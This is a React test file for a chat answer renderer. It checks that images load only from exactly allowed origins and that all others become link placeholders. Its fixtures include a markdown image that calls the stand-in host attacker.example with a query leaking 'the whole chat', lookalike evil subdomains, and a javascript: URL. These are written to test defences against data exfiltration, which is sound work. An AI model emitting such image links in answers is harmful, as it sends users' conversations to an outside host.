import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { ImageOriginsContext } from './answer-image.tsx';
import { MessagePartView, type MessagePart } from './message-part-view.tsx';

const allowed = 'https://images.example.com';

function renderPart(part: unknown, origins: readonly string[] = []) {
  return render(
    <ImageOriginsContext value={origins}>
      <MessagePartView part={part as MessagePart} afterContent />
    </ImageOriginsContext>,
  );
}

const imagesIn = (element: HTMLElement) => [...element.querySelectorAll('img')];

describe('images in answers', () => {
  it('never creates an <img> for a markdown image from a host nobody allowed: a link names the host', () => {
    const { container } = renderPart({
      type: 'text',
      text: 'Done. ![logo](https://attacker.example:8443/pixel.png?leak=the+whole+chat)',
    });
    expect(imagesIn(container)).toEqual([]);
    const placeholder = screen.getByTestId('blocked-image');
    expect(placeholder.textContent).toBe('Image from attacker.example:8443 not loaded: logo');
    expect(placeholder.getAttribute('href')).toBe(
      'https://attacker.example:8443/pixel.png?leak=the+whole+chat',
    );
    expect(placeholder.getAttribute('rel')).toContain('noreferrer');
  });

  it('shows a markdown image from an allowed origin, without a Referer', () => {
    const { container } = renderPart(
      {
        type: 'text',
        text: `![chart](${allowed}/chart.png) and ![ref][pic]\n\n[pic]: ${allowed}/b.png`,
      },
      [allowed],
    );
    const images = imagesIn(container);
    expect(images.map((image) => image.getAttribute('src'))).toEqual([
      `${allowed}/chart.png`,
      `${allowed}/b.png`,
    ]);
    expect(images[0]?.getAttribute('alt')).toBe('chart');
    expect(images[0]?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(screen.queryByTestId('blocked-image')).toBeNull();
  });

  it('allows exact origins only: another scheme, port or subdomain of an allowed host is refused', () => {
    const { container } = renderPart(
      {
        type: 'text',
        text: [
          '![a](http://images.example.com/a.png)',
          '![b](https://images.example.com:8443/b.png)',
          '![c](https://evil.images.example.com/c.png)',
          '![d](https://images.example.com.evil.example/d.png)',
        ].join(' '),
      },
      [allowed],
    );
    expect(imagesIn(container)).toEqual([]);
    expect(screen.getAllByTestId('blocked-image').map((element) => element.dataset.host)).toEqual([
      'images.example.com',
      'images.example.com:8443',
      'evil.images.example.com',
      'images.example.com.evil.example',
    ]);
  });

  it("refuses this app's own origin and URLs with no host, naming what it can", () => {
    const { container } = renderPart({
      type: 'text',
      text: '![own](/api/chat/sessions) ![inline](data:image/png;base64,iVBORw0KGgo=) ![js](javascript:alert(1))',
    });
    expect(imagesIn(container)).toEqual([]);
    const placeholders = screen.getAllByTestId('blocked-image');
    expect(placeholders.map((element) => element.textContent)).toEqual([
      `Image from ${window.location.host} not loaded: own`,
      'Image not loaded: inline',
      'Image not loaded: js',
    ]);
  });

  it('shows an image file part only from an allowed origin or a data: URL', () => {
    const { container } = renderPart(
      {
        type: 'file',
        mediaType: 'image/png',
        filename: 'leak.png',
        url: 'https://attacker.example/x.png',
      },
      [allowed],
    );
    expect(imagesIn(container)).toEqual([]);
    expect(screen.getByTestId('blocked-image').textContent).toBe(
      'Image from attacker.example not loaded: leak.png',
    );
    container.remove();

    const allowedFile = renderPart(
      { type: 'file', mediaType: 'image/png', filename: 'ok.png', url: `${allowed}/ok.png` },
      [allowed],
    );
    expect(imagesIn(allowedFile.container).map((image) => image.getAttribute('src'))).toEqual([
      `${allowed}/ok.png`,
    ]);
  });

  it('loads nothing before the server has named any origin', () => {
    const { container } = render(
      <MessagePartView
        part={{ type: 'text', text: `![chart](${allowed}/chart.png)` }}
        afterContent
      />,
    );
    expect(imagesIn(container)).toEqual([]);
    expect(screen.getByTestId('blocked-image').dataset.host).toBe('images.example.com');
  });
});
